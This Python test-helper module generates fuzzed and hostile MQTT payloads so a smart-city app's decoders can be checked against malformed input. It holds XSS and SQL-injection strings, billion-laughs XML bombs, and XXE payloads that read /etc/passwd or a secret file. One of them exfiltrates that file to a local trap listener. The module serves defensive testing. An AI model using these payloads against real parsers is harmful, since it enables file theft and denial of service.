"""The abuse suite's tools: hostile payloads per format, a QoS 1 publisher that counts what
the broker took, and a ledger of what the app says it did with them.

Payloads are deterministic (``random.Random`` seeded per format). Valid samples come from
the externally written ones in ``../shared/interop`` (read in place when present, never
copied), the project's own fixtures and the demo city's encoders; the generator mutates
them the way broken devices, gateways and attackers do, or makes random bytes and random
documents of the format's vocabulary.
"""

from __future__ import annotations

import json
import random
import re
import socket
import threading
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import quote
from xml.sax.saxutils import escape as xml_escape

import paho.mqtt.client as mqtt
from paho.mqtt.enums import CallbackAPIVersion

from services.config import AppConfig, FeedConfig
from services.config.loader import parse_config
from services.config.schema import FORMATS
from services.decoders import Decoded, DecodeError, get_decoder
from services.incidents.payload import decode_incident_payload
from services.ingest.cache_writer import FlushReport
from services.ingest.pipeline import IngestPipeline
from services.limits import MAX_PAYLOAD_BYTES, payload_too_large
from services.model import DeadLetter, Entity, FeedHealth, Reading
from services.session import CitySession
from services.sharing.protocol import (
    SharedAction,
    SharedState,
    decode_state,
    encode_action,
    encode_state,
    load_action_body,
    parse_action,
)
from tests.helpers.brokers import MosquittoBroker
from tests.helpers.demo import START, feed_of
from tests.helpers.paths import SHARED_INTEROP, TESTS
from tests.helpers.polling import wait_for

ROOT = "abuse"
"""Every feed of the suite subscribes ``abuse/<format>/#``: one feed per format, disjoint."""


def feed_name(format_name: str) -> str:
    return format_name


def topic_root(format_name: str) -> str:
    return f"{ROOT}/{format_name}"


def abuse_config(broker_url: str, client_id: str) -> AppConfig:
    """The app's config: one QoS 1 feed per payload format on ``broker_url``, a persistent
    session (QoS 1 messages are acknowledged to the broker once stored or dead-lettered)
    and a few rules so that the rule engine sees the readings too."""
    lines = [
        "[broker]",
        f'url = "{broker_url}"',
        f'client_id = "{client_id}"',
        "clean_session = false",
    ]
    for format_name in FORMATS:
        lines += [
            "",
            "[[feeds]]",
            f'name = "{feed_name(format_name)}"',
            f'topic = "{topic_root(format_name)}/#"',
            f'format = "{format_name}"',
            "qos = 1",
            'domain = "city"',
        ]
    for metric, high in (("pm25", 75), ("temperature", 30), ("water_level", 35), ("batt", 90)):
        lines += ["", "[[rules]]", f'metric = "{metric}"', f"high = {high}"]
    return parse_config("\n".join(lines).encode(), "abuse.toml")


# -- valid samples ---------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Sample:
    """A valid payload of one format and the topic level(s) it is published under."""

    origin: str
    topic: str
    """Below the format's topic root."""
    payload: bytes


_INTEROP_GLOBS: dict[str, tuple[str, ...]] = {
    "cap": ("cap/*.xml",),
    "ngsi-v2": ("ngsi/*.json",),
    "ngsi-ld": ("ngsi/*.jsonld",),
    "senml": ("senml/*.json",),
}
_FIXTURE_GLOBS: dict[str, tuple[str, ...]] = {
    "json": ("payloads/json/*.json",),
    "ngsi-v2": ("payloads/ngsi/v2-*.json",),
    "ngsi-ld": ("payloads/ngsi/ld-*.jsonld",),
    "sensorthings": ("payloads/sensorthings/*.json",),
    "senml": ("payloads/senml/*.json",),
    "owntracks": ("payloads/owntracks/*.json",),
    "cap": ("cap/*.xml",),
}
_FIXTURE_TOPICS = {
    "sensorthings": "v1.1/Datastreams(7)/Observations",
    "owntracks": "owntracks/alice/phone",
}
DEMO_SAMPLES_PER_FORMAT = 12


def _demo_samples() -> dict[str, list[Sample]]:
    from services.demo.simulator import CitySimulator, load_demo_city

    simulator = CitySimulator(
        load_demo_city(), seed=0, scenario="rainstorm-flood", start_time=START
    )
    found: dict[str, list[Sample]] = {}
    for topic, payload in simulator.step(START) + simulator.step(START + 600.0):
        format_name = feed_of(topic).format
        samples = found.setdefault(format_name, [])
        if len(samples) < DEMO_SAMPLES_PER_FORMAT:
            samples.append(Sample("demo", topic, payload))
    return found


_DEMO_CACHE: dict[str, list[Sample]] = {}


def valid_samples(format_name: str) -> list[Sample]:
    """Valid payloads of a format: interop samples (when present), fixtures, demo output."""
    samples: list[Sample] = []
    if SHARED_INTEROP.is_dir():  # read in place, never copied into the project
        for pattern in _INTEROP_GLOBS.get(format_name, ()):
            for path in sorted(SHARED_INTEROP.glob(pattern)):
                samples.append(
                    Sample(f"interop:{path.name}", f"dev/{path.stem}", path.read_bytes())
                )
    fixtures = TESTS / "fixtures"
    for pattern in _FIXTURE_GLOBS.get(format_name, ()):
        for path in sorted(fixtures.glob(pattern)):
            topic = _FIXTURE_TOPICS.get(format_name, f"dev/{path.stem}")
            samples.append(Sample(f"fixture:{path.name}", topic, path.read_bytes()))
    if not _DEMO_CACHE:
        _DEMO_CACHE.update(_demo_samples())
    samples.extend(_DEMO_CACHE.get(format_name, []))
    return samples


def decode_as_app(format_name: str, topic: str, payload: bytes, received_at: float) -> Decoded:
    """What the app's decoder makes of a payload (DecodeError when it refuses it)."""
    if len(payload) > MAX_PAYLOAD_BYTES:
        raise DecodeError(payload_too_large(len(payload)))
    feed = FeedConfig(name=feed_name(format_name), topic="#", format=format_name)
    return get_decoder(format_name)(payload, topic, feed, received_at)


# -- hostile pieces -------------------------------------------------------------------------

BOMS = (b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\xff\xfe\x00\x00", b"\x00\x00\xfe\xff")
BAD_UTF8 = (
    b"\xc0\x80",  # overlong NUL
    b"\xed\xa0\x80",  # an encoded surrogate
    b"\xf4\x90\x80\x80",  # beyond U+10FFFF
    b"\x80",  # a lone continuation byte
    b"\xff",
    b"\xfe",
    b"\xe2\x82",  # cut short
)
HUGE_NUMBERS = (
    "1e999",
    "-1e999",
    "1e308",
    "-1e308",
    "5e-324",
    "9" * 301,
    "-" + "9" * 400,
    "9" * 299,
    "18446744073709551616",
    "-0",
    "0.0000000000000000000000000000001",
    "123456789012345678901234567890.5",
)
NON_FINITE = ("NaN", "Infinity", "-Infinity", "nan", "inf", "-inf")
AWKWARD_TEXT = (
    "",
    " ",
    "\u202eevil\u202c",  # right-to-left override
    "\u200b\u200c\u200d\u2060",  # zero-width characters
    "\ufeff",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}${7*7}",
    "'; DROP TABLE entities; --",
    "\x00",
    "\x01\x1b[31mred\x1b[0m",
    "\u0085\u2028\u2029",
    "a\nb\tc\r",
    "😀👍🏽",
    "e\u0301\u0301\u0301",
    "x" * 5000,
    "NaN",
    "Infinity",
    "2099-01-01T00:00:00Z",
    "1969-12-31T23:59:59Z",
    "9999-12-31T23:59:59-23:59",
    "0001-01-01T00:00:00+23:59",
    "2026-11-21T07:00:00Z/PT5M",
    "urn:ngsi-ld:x:",
    "/",
    "owntracks/+/#",
)
JSON_FRAGMENTS = (
    b"NaN",
    b"Infinity",
    b"-Infinity",
    b"1e999",
    b"9" * 400,
    b"[[[[[[[[",
    b"]]]]",
    b"{{",
    b"}",
    b'"',
    b",",
    b":",
    b"null",
    b"true",
    b"\\u0000",
    b"\\ud800",
    b"\\udfff\\ud800",
    b"\x00",
    b"/* comment */",
    b"\\",
    b'"\\u202e"',
    b"\xe2\x80\xae",
)
XML_FRAGMENTS = (
    b"<!DOCTYPE alert [<!ENTITY x 'y'>]>",
    b"&x;",
    b"&lol9;",
    b"&#0;",
    b"&#x110000;",
    b"&#xD800;",
    b"&nbsp;",
    b"<![CDATA[<alert/>]]>",
    b"<?xml-stylesheet href='http://127.0.0.1:1/x.xsl'?>",
    b"<!-- -- -->",
    b"<x:y xmlns:x='urn:x'/>",
    b"</alert>",
    b"<alert>",
    b"<",
    b">",
    b"&",
    b"\x00",
    b"]]>",
    b"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>",
)
JSON_KEYS = (
    "id", "type", "value", "location", "coordinates", "name", "data", "subscriptionId",
    "observedAt", "unitCode", "metadata", "TimeInstant", "dateObserved", "@value", "@context",
    "object", "datasetId", "severity", "category", "alertSource", "dateIssued", "validTo",
    "result", "phenomenonTime", "resultTime", "Datastream", "Thing", "@iot.id",
    "@iot.nextLink", "FeatureOfInterest", "feature", "Observations", "Datastreams",
    "Locations", "ObservedProperty", "unitOfMeasurement", "symbol", "bn", "n", "v", "vb", "vs",
    "vd", "s", "t", "bt", "bv", "bs", "bver", "u", "bu", "_type", "lat", "lon", "tst", "tid",
    "batt", "vel", "cog", "acc", "topic", "ts", "pm25", "temperature", "Point", "Property",
)  # fmt: skip
JSON_TEXTS = (
    "Point", "Polygon", "LineString", "MultiPolygon", "Feature", "Property", "GeoProperty",
    "Relationship", "geo:json", "Alert", "Notification", "location", "transition",
    "encrypted", "lwt", "critical", "2026-11-21T07:00:00Z", "urn:dev:ow:1:", "28.5, 112.3",
)  # fmt: skip
CAP_TAGS = (
    "alert", "identifier", "sender", "sent", "status", "msgType", "scope", "references",
    "info", "language", "category", "event", "urgency", "severity", "certainty", "expires",
    "effective", "headline", "description", "senderName", "area", "areaDesc", "polygon",
    "circle", "geocode", "valueName", "value", "parameter", "feed", "entry", "content",
)  # fmt: skip
CAP_NAMESPACES = (
    "urn:oasis:names:tc:emergency:cap:1.2",
    "urn:oasis:names:tc:emergency:cap:1.1",
    "urn:oasis:names:tc:emergency:cap:9.9",
    "",
)
ENCODINGS = ("UTF-16", "ISO-8859-1", "GB18030", "bogus-8", "EBCDIC-CP-US", "UTF-32", "ascii")

_NUMBER = re.compile(rb"-?\d+(?:\.\d+)?(?:[eE][-+]?\d+)?")
_XML_LEAF = re.compile(rb"<([A-Za-z][\w:.-]*)>([^<]*)</\1>")
_XML_BLOCK = re.compile(rb"<(info|area|geocode|entry|item)\b[^>]*>.*?</\1>", re.DOTALL)
_XML_DECL = re.compile(rb"<\?xml[^>]*\?>")
_XML_ENCODING = re.compile(rb'encoding="[^"]*"')
_XMLNS = re.compile(rb'xmlns="[^"]*"')


_PLACEHOLDER = re.compile(r'"@@RAW(\d+)@@"')


# -- the generator --------------------------------------------------------------------------


@dataclass(slots=True)
class Abuse:
    """One message to publish: where, what, and how it was made."""

    topic: str
    payload: bytes
    kind: str


class AbuseGenerator:
    """Deterministic hostile payloads of one format: random bytes, random documents of the
    format's vocabulary, byte-level and structural mutations of valid samples, and a share
    of valid samples unchanged."""

    KINDS = (
        ("valid", 0.08),
        ("random-bytes", 0.12),
        ("random-document", 0.15),
        ("byte-mutation", 0.35),
        ("structure-mutation", 0.30),
    )

    def __init__(
        self,
        format_name: str,
        samples: Sequence[Sample],
        seed: int = 0,
        *,
        root: str | None = None,
        extend_topics: bool = True,
    ) -> None:
        if not samples:
            raise ValueError(f"no valid samples of {format_name}")
        self.format = format_name
        self.root = topic_root(format_name) if root is None else root
        self.extend_topics = extend_topics
        self.samples = list(samples)
        self.xml = format_name == "cap"
        self.rng = random.Random(zlib.crc32(format_name.encode()) ^ seed)
        self.kinds: Counter[str] = Counter()
        self._tokens: list[str] = []

    def _raw(self, token: str) -> str:
        """A placeholder string that :meth:`_splice` turns into raw JSON text: what
        json.dumps cannot write (1e999, 400-digit integers, duplicate keys, deep nesting)."""
        self._tokens.append(token)
        return f"@@RAW{len(self._tokens) - 1}@@"

    def _splice(self, text: str) -> str:
        while _PLACEHOLDER.search(text):
            text = _PLACEHOLDER.sub(lambda match: self._tokens[int(match.group(1))], text)
        return text

    def generate(self, count: int) -> list[Abuse]:
        names = [name for name, _ in self.KINDS]
        weights = [weight for _, weight in self.KINDS]
        out = []
        for _ in range(count):
            kind = self.rng.choices(names, weights)[0]
            sample = self.rng.choice(self.samples)
            topic = sample.topic
            if kind == "valid":
                payload = sample.payload
            elif kind == "random-bytes":
                payload = self._random_bytes()
            elif kind == "random-document":
                payload = self._random_xml() if self.xml else self._random_json()
            elif kind == "byte-mutation":
                payload = self._byte_mutation(sample.payload)
            else:
                payload = (
                    self._xml_mutation(sample.payload)
                    if self.xml
                    else self._json_mutation(sample.payload)
                )
            if self.extend_topics and self.rng.random() < 0.03:
                topic = f"{topic}/{self._topic_level()}"
            self.kinds[kind] += 1
            out.append(Abuse(f"{self.root}/{topic}", payload, kind))
        return out

    # -- pieces --
    def _topic_level(self) -> str:
        """A topic level mosquitto passes on (no control characters, no wildcards)."""
        return self.rng.choice(
            ["\u202egnp.exe", "a\u200bb", "<b>x</b>", "\ufeff", " ", "é" * 300, "&amp;", "''"]
        )

    def _random_bytes(self) -> bytes:
        roll = self.rng.random()
        size = self.rng.randrange(0, 600) if roll < 0.97 else self.rng.randrange(600, 64_000)
        return self.rng.randbytes(size)

    def _scalar(self) -> Any:
        roll = self.rng.randrange(9)
        if roll == 0:
            return None
        if roll == 1:
            return self.rng.random() < 0.5
        if roll == 2:
            return self.rng.randrange(-(2**40), 2**40)
        if roll == 3:
            return self.rng.uniform(-1e6, 1e6)
        if roll == 4:
            return self._raw(self.rng.choice(HUGE_NUMBERS + NON_FINITE))
        if roll == 5:
            return self.rng.choice(AWKWARD_TEXT)
        if roll == 6:
            return self.rng.choice(JSON_TEXTS)
        if roll == 7:
            return self.rng.uniform(-200, 200)
        return "".join(chr(self.rng.randrange(0x20, 0x3000)) for _ in range(self.rng.randrange(8)))

    def _json_value(self, depth: int = 0) -> Any:
        roll = self.rng.random()
        if depth > 4 or roll < 0.45:
            return self._scalar()
        if roll < 0.7:
            return [self._json_value(depth + 1) for _ in range(self.rng.randrange(5))]
        keys = [
            self.rng.choice(JSON_KEYS) if self.rng.random() < 0.8 else self.rng.choice(AWKWARD_TEXT)
            for _ in range(self.rng.randrange(7))
        ]
        return {key: self._json_value(depth + 1) for key in keys}

    def _random_json(self) -> bytes:
        document = self._json_value()
        if self.rng.random() < 0.5:  # top level an object, as most formats want
            document = {self.rng.choice(JSON_KEYS): self._json_value(1) for _ in range(6)}
        return self._dump(document)

    def _dump(self, document: Any) -> bytes:
        text = self._splice(json.dumps(document, ensure_ascii=self.rng.random() < 0.5))
        self._tokens.clear()
        return text.encode("utf-8", errors="surrogatepass")

    def _random_xml(self) -> bytes:
        def element(depth: int) -> str:
            tag = self.rng.choice(CAP_TAGS)
            if depth > 5 or self.rng.random() < 0.5:
                return f"<{tag}>{self._xml_text()}</{tag}>"
            children = "".join(element(depth + 1) for _ in range(self.rng.randrange(5)))
            return f"<{tag}>{children}</{tag}>"

        namespace = self.rng.choice(CAP_NAMESPACES)
        xmlns = f' xmlns="{namespace}"' if namespace else ""
        body = "".join(element(1) for _ in range(self.rng.randrange(1, 8)))
        root = self.rng.choice(("alert", "alert", "feed", "rss", "x"))
        declaration = '<?xml version="1.0" encoding="UTF-8"?>' if self.rng.random() < 0.5 else ""
        return f"{declaration}<{root}{xmlns}>{body}</{root}>".encode()

    def _xml_text(self) -> str:
        roll = self.rng.randrange(6)
        if roll == 0:
            return self.rng.choice(HUGE_NUMBERS + NON_FINITE)
        if roll == 1:
            return self.rng.choice(
                ("Alert", "Update", "Cancel", "Ack", "Actual", "Exercise", "Extreme", "Minor")
            )
        if roll == 2:
            return self.rng.choice(
                ("28.5,112.3 28.6,112.3 28.6,112.4 28.5,112.3", "28.5,112.3 5", "91,181 0,0")
            )
        if roll == 3:
            return self.rng.choice(("2026-11-21T08:00:00+08:00", "2099-01-01T00:00:00Z", "x"))
        text = self.rng.choice(AWKWARD_TEXT)
        text = "".join(ch for ch in text if ch in "\t\n\r" or ord(ch) >= 0x20)
        return text.replace("&", "&amp;").replace("<", "&lt;")

    def _byte_mutation(self, payload: bytes) -> bytes:
        data = bytearray(payload)
        fragments = XML_FRAGMENTS if self.xml else JSON_FRAGMENTS
        for _ in range(self.rng.randrange(1, 4)):
            operation = self.rng.randrange(11)
            at = self.rng.randrange(len(data) + 1)
            if operation == 0:  # cut off
                del data[at:]
            elif operation == 1 and data:  # flip bits
                for _ in range(self.rng.randrange(1, 9)):
                    data[self.rng.randrange(len(data))] ^= 1 << self.rng.randrange(8)
            elif operation == 2:  # lose a span
                del data[at : at + self.rng.randrange(1, 64)]
            elif operation == 3:  # insert a hostile fragment
                data[at:at] = self.rng.choice(fragments)
            elif operation == 4:  # repeat a span
                data[at:at] = data[at : at + self.rng.randrange(1, 80)] * self.rng.randrange(1, 4)
            elif operation == 5:  # a byte order mark in front
                data[0:0] = self.rng.choice(BOMS)
            elif operation == 6:  # another encoding altogether
                text = bytes(data).decode("utf-8", errors="replace")
                encoding = self.rng.choice(("utf-16", "utf-16-be", "utf-32", "latin-1", "gb18030"))
                data = bytearray(text.encode(encoding, errors="replace"))
            elif operation == 7:  # invalid UTF-8
                data[at:at] = self.rng.choice(BAD_UTF8)
            elif operation == 8:  # a number replaced by a huge or non-finite one
                numbers = list(_NUMBER.finditer(bytes(data)))
                if numbers:
                    match = self.rng.choice(numbers)
                    token = self.rng.choice(HUGE_NUMBERS + NON_FINITE).encode()
                    data[match.start() : match.end()] = token
            elif operation == 9:  # trailing garbage: a second document, NULs, whitespace
                data += self.rng.choice((b" \n\t", b"\x00" * 8, bytes(payload), b"}", b"]]>"))
            else:  # random bytes over a span
                span = self.rng.randrange(1, 16)
                data[at : at + span] = self.rng.randbytes(span)
        return bytes(data)

    # -- structural mutations of JSON documents --
    def _json_mutation(self, payload: bytes) -> bytes:
        try:
            document = json.loads(payload)
        except ValueError:
            return self._byte_mutation(payload)
        for _ in range(self.rng.randrange(1, 4)):
            document = self._mutate_json(document)
        return self._dump(document)

    def _paths(self, node: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
        found = [prefix]
        if isinstance(node, dict):
            for key, child in node.items():
                found.extend(self._paths(child, (*prefix, key)))
        elif isinstance(node, list):
            for index, child in enumerate(node):
                found.extend(self._paths(child, (*prefix, index)))
        return found

    def _replace_at(self, node: Any, path: tuple[Any, ...], make: Callable[[Any], Any]) -> Any:
        if not path:
            return make(node)
        head, rest = path[0], path[1:]
        if isinstance(node, dict):
            return {
                key: (self._replace_at(child, rest, make) if key == head else child)
                for key, child in node.items()
            }
        return [
            (self._replace_at(child, rest, make) if index == head else child)
            for index, child in enumerate(node)
        ]

    def _mutate_json(self, document: Any) -> Any:
        path = self.rng.choice(self._paths(document))
        operation = self.rng.randrange(9)
        if operation == 0:  # a value of the wrong type, a huge number, awkward text
            return self._replace_at(document, path, lambda _node: self._scalar())
        if operation == 1:  # nested deeper than any limit
            depth = self.rng.choices((33, 100, 1000, 20_000), (4, 3, 2, 1))[0]
            opening, closing = self.rng.choice((("[", "]"), ('{"a":', "}")))

            def nest(node: Any) -> Any:
                return self._raw(opening * depth + json.dumps(node) + closing * depth)

            return self._replace_at(document, path, nest)
        if operation == 2:  # a key twice, with different values

            def duplicate(node: Any) -> Any:
                if not isinstance(node, dict) or not node:
                    return node
                key = self.rng.choice(list(node))
                members = [f"{json.dumps(k)}: {json.dumps(v)}" for k, v in node.items()]
                members.append(f"{json.dumps(key)}: {json.dumps(self._scalar())}")
                self.rng.shuffle(members)
                return self._raw("{" + ", ".join(members) + "}")

            return self._replace_at(document, path, duplicate)
        if operation == 3:  # a key lost
            parent, key = path[:-1], path[-1] if path else None

            def drop(node: Any) -> Any:
                if isinstance(node, dict):
                    return {k: v for k, v in node.items() if k != key}
                if isinstance(node, list):
                    return [v for i, v in enumerate(node) if i != key]
                return node

            return self._replace_at(document, parent, drop) if path else document
        if operation == 4:  # objects and arrays swapped

            def swap(node: Any) -> Any:
                if isinstance(node, dict):
                    return list(node.values())
                if isinstance(node, list):
                    return {str(i): v for i, v in enumerate(node)}
                return [node]

            return self._replace_at(document, path, swap)
        if operation == 5:  # a metric explosion

            def explode(node: Any) -> Any:
                if not isinstance(node, dict):
                    return node
                size = self.rng.choices((200, 2000, 12_000), (6, 3, 1))[0]  # the last: too many
                many = {f"m{i}": i * 0.5 for i in range(size)}
                return {**node, **many}

            return self._replace_at(document, path, explode)
        if operation == 6:  # keys with awkward text

            def rename(node: Any) -> Any:
                if not isinstance(node, dict) or not node:
                    return node
                key = self.rng.choice(list(node))
                return {
                    (self.rng.choice(AWKWARD_TEXT) if k == key else k): v for k, v in node.items()
                }

            return self._replace_at(document, path, rename)
        if operation == 7:  # the document wrapped, or a part of it on its own
            return self.rng.choice(([document], {"data": document}, self._pick(document, path)))
        # a long list of values
        return self._replace_at(
            document, path, lambda _node: [self._scalar() for _ in range(self.rng.randrange(500))]
        )

    @staticmethod
    def _pick(document: Any, path: tuple[Any, ...]) -> Any:
        node = document
        for part in path:
            node = node[part]
        return node

    # -- structural mutations of XML documents --
    def _xml_mutation(self, payload: bytes) -> bytes:
        data = payload
        for _ in range(self.rng.randrange(1, 4)):
            data = self._mutate_xml(data)
        return data

    def _mutate_xml(self, data: bytes) -> bytes:
        operation = self.rng.randrange(10)
        leaves = list(_XML_LEAF.finditer(data))
        if operation == 0 and leaves:  # an element's text replaced
            match = self.rng.choice(leaves)
            text = self._xml_text().encode()
            if self.rng.random() < 0.2:
                text = self.rng.choice((b"&#1;", b"&#0;", b"&undefined;", b"&#x202E;x", b"&lt;b"))
            return data[: match.start(2)] + text + data[match.end(2) :]
        if operation == 1 and leaves:  # an element repeated
            match = self.rng.choice(leaves)
            times = self.rng.choice((2, 3, 50))
            return data[: match.end()] + match.group(0) * times + data[match.end() :]
        if operation == 2:  # blocks repeated past the limits
            blocks = list(_XML_BLOCK.finditer(data))
            if blocks:
                match = self.rng.choice(blocks)
                times = self.rng.choice((2, 10, 400, 6000))
                repeated = match.group(0) * times
                if len(data) + len(repeated) <= MAX_PAYLOAD_BYTES + 4096:
                    return data[: match.end()] + repeated + data[match.end() :]
            return data
        if operation == 3 and leaves:  # nested deeper than the limit
            match = self.rng.choice(leaves)
            depth = self.rng.choice((10, 31, 40, 500))
            return (
                data[: match.start()]
                + b"<x>" * depth
                + match.group(0)
                + b"</x>" * depth
                + data[match.end() :]
            )
        if operation == 4:  # a document type declaration
            doctype = self.rng.choice(HOSTILE_DOCTYPES)
            declaration = _XML_DECL.search(data)
            at = declaration.end() if declaration else 0
            reference = b"&xxe;" if b"xxe" in doctype else b"&lol9;"
            body = data[at:]
            leaf = _XML_LEAF.search(body)
            if leaf is not None:
                body = body[: leaf.start(2)] + reference + body[leaf.end(2) :]
            return data[:at] + doctype + body
        if operation == 5:  # another namespace
            namespace = self.rng.choice(CAP_NAMESPACES).encode()
            return _XMLNS.sub(b'xmlns="' + namespace + b'"', data, count=1)
        if operation == 6:  # a wrong or unknown encoding declared
            encoding = self.rng.choice(ENCODINGS).encode()
            if _XML_ENCODING.search(data):
                return _XML_ENCODING.sub(b'encoding="' + encoding + b'"', data, count=1)
            return b'<?xml version="1.0" encoding="' + encoding + b'"?>' + data
        if operation == 7:  # polygons: many points (past the limit), out of range, not numbers
            roll = self.rng.randrange(5)
            if roll < 2:
                points = self.rng.choice((3, 200, 10_001))
                ring = " ".join(
                    f"{self.rng.uniform(-95, 95):.4f},{self.rng.uniform(-185, 185):.4f}"
                    for _ in range(points)
                )
            else:
                ring = ("NaN,NaN 1,1 2,2 NaN,NaN", "28.5,112.3", "a,b c,d")[roll - 2]
            polygon = f"<polygon>{ring}</polygon>".encode()
            replaced = re.sub(rb"<polygon>[^<]*</polygon>", lambda _m: polygon, data)
            return replaced if len(replaced) <= MAX_PAYLOAD_BYTES + 4096 else data
        if operation == 8:  # a tag renamed or lost
            if leaves:
                match = self.rng.choice(leaves)
                tag = match.group(1)
                closing = b"</" + tag + b">"
                return data[: match.end() - len(closing)] + data[match.end() :]
            return data
        return self._byte_mutation(data)


def _laughs() -> str:
    """The entity declarations of "billion laughs": ``lol9`` expands to 10^9 ``lol``."""
    declarations = ['<!ENTITY lol "lol">']
    for level in range(1, 10):
        inner = "&lol;" if level == 1 else f"&lol{level - 1};"
        declarations.append(f'<!ENTITY lol{level} "{inner * 10}">')
    return "".join(declarations)


_LAUGHS = _laughs()
HOSTILE_DOCTYPES = (
    # billion laughs: 10 levels of 10 references, about 3 GB when expanded
    b"<!DOCTYPE alert [" + _LAUGHS.encode() + b"]>",
    b'<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    b'<!DOCTYPE alert [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/x">]>',
    b'<!DOCTYPE alert SYSTEM "http://127.0.0.1:9/cap.dtd">',
    b'<!DOCTYPE alert [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p.dtd"> %p;]>',
)


# -- hostile XML with a place to look for leaks ------------------------------------------------


def cap_document(identifier: str, body_text: str = "flood") -> str:
    """A small valid CAP 1.2 alert whose headline is ``body_text``."""
    return (
        '<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">'
        f"<identifier>{identifier}</identifier><sender>abuse@example.cn</sender>"
        "<sent>2026-11-21T08:00:00+08:00</sent><status>Actual</status>"
        "<msgType>Alert</msgType><scope>Public</scope>"
        "<info><category>Met</category><event>Flood</event><urgency>Immediate</urgency>"
        "<severity>Severe</severity><certainty>Likely</certainty>"
        f"<headline>{body_text}</headline>"
        f"<area><areaDesc>{body_text}</areaDesc></area></info></alert>"
    )


def xml_bombs(secret_file: Path, http_port: int) -> dict[str, bytes]:
    """Entity expansion and external entities, by name. Each would put the expansion (or
    the secret file's text, or a fetch of the local HTTP listener) into the alert's text if
    a parser expanded it."""
    file_url = secret_file.resolve().as_uri()
    http = f"http://127.0.0.1:{http_port}"
    laughs = _LAUGHS
    big = "A" * 50_000
    documents = {
        "billion-laughs": f"<!DOCTYPE alert [{laughs}]>" + cap_document("bomb-1", "&lol9;"),
        "quadratic-blowup": f'<!DOCTYPE alert [<!ENTITY a "{big}">]>'
        + cap_document("bomb-2", "&a;" * 3000),
        "external-file": f'<!DOCTYPE alert [<!ENTITY xxe SYSTEM "{file_url}">]>'
        + cap_document("xxe-1", "&xxe;"),
        "external-passwd": '<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        + cap_document("xxe-2", "&xxe;"),
        "external-http": f'<!DOCTYPE alert [<!ENTITY xxe SYSTEM "{http}/entity">]>'
        + cap_document("xxe-3", "&xxe;"),
        "external-dtd": f'<!DOCTYPE alert SYSTEM "{http}/cap.dtd">' + cap_document("xxe-4"),
        "public-dtd": f'<!DOCTYPE alert PUBLIC "-//X//EN" "{http}/public.dtd">'
        + cap_document("xxe-5"),
        "parameter-entity": f'<!DOCTYPE alert [<!ENTITY % p SYSTEM "{http}/p.dtd"> %p;]>'
        + cap_document("xxe-6", "&evil;"),
        "parameter-exfiltration": (
            f'<!DOCTYPE alert [<!ENTITY % file SYSTEM "{file_url}">'
            f"<!ENTITY % wrap \"<!ENTITY send SYSTEM '{http}/?%file;'>\"> %wrap;]>"
        )
        + cap_document("xxe-7", "&send;"),
        "internal-entity": '<!DOCTYPE alert [<!ENTITY x "expanded">]>'
        + cap_document("ent-1", "&x;"),
        "entity-in-attribute": '<!DOCTYPE alert [<!ENTITY x "expanded">]>'
        + cap_document("ent-2").replace("<alert ", '<alert a="&x;" '),
        "xinclude": cap_document("xi-1").replace(
            "<headline>flood</headline>",
            '<headline><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            f'href="{file_url}" parse="text"/></headline>',
        ),
        "stylesheet": f'<?xml-stylesheet type="text/xsl" href="{http}/x.xsl"?>'
        + cap_document("xsl-1"),
        "schema-location": cap_document("xsd-1").replace(
            "<alert ",
            '<alert xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            f'xsi:schemaLocation="urn:x {http}/cap.xsd" ',
        ),
    }
    encoded = {name: text.encode() for name, text in documents.items()}
    utf16 = ('<?xml version="1.0" encoding="UTF-16"?>' + documents["billion-laughs"]).encode(
        "utf-16"
    )
    encoded["billion-laughs-utf16"] = utf16
    encoded["billion-laughs-after-comment"] = b"<!-- hello -->" + encoded["billion-laughs"]
    return encoded


class TcpTrap:
    """A loopback listener that counts connections: anything fetching an external entity
    or DTD from it shows up here."""

    def __init__(self) -> None:
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._socket.bind(("127.0.0.1", 0))
        self._socket.listen(16)
        self._socket.settimeout(0.1)
        self.port: int = self._socket.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="abuse-tcp-trap", daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self._socket.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self._socket.close()


# -- publishing -----------------------------------------------------------------------------


class Publisher:
    """A paho client publishing with QoS 1; :meth:`publish_all` returns once the broker has
    acknowledged (PUBACK) every message."""

    def __init__(self, port: int, client_id: str = "abuse-publisher") -> None:
        self._lock = threading.Lock()
        self._acked = 0
        self.client = mqtt.Client(
            callback_api_version=CallbackAPIVersion.VERSION2, client_id=client_id
        )
        self.client.max_inflight_messages_set(500)
        self.client.max_queued_messages_set(0)
        self.client.on_publish = self._on_publish
        self.client.connect("127.0.0.1", port)
        self.client.loop_start()

    def _on_publish(self, *_args: object) -> None:
        with self._lock:
            self._acked += 1

    @property
    def acked(self) -> int:
        with self._lock:
            return self._acked

    def send(self, messages: Iterable[tuple[str, bytes]]) -> Sending:
        """Publish every message (QoS 1) without waiting; wait on the result for the PUBACKs."""
        before = self.acked
        infos = [self.client.publish(topic, payload, qos=1) for topic, payload in messages]
        for info in infos:
            if info.rc != mqtt.MQTT_ERR_SUCCESS:
                raise AssertionError(f"paho refused a publish: {info.rc}")
        return Sending(self, before, len(infos))

    def publish_all(self, messages: Iterable[tuple[str, bytes]], timeout: float = 60.0) -> int:
        """Publish every message (QoS 1) and wait for the broker's PUBACKs; returns how many."""
        return self.send(messages).wait(timeout)

    def close(self) -> None:
        self.client.disconnect()
        self.client.loop_stop()


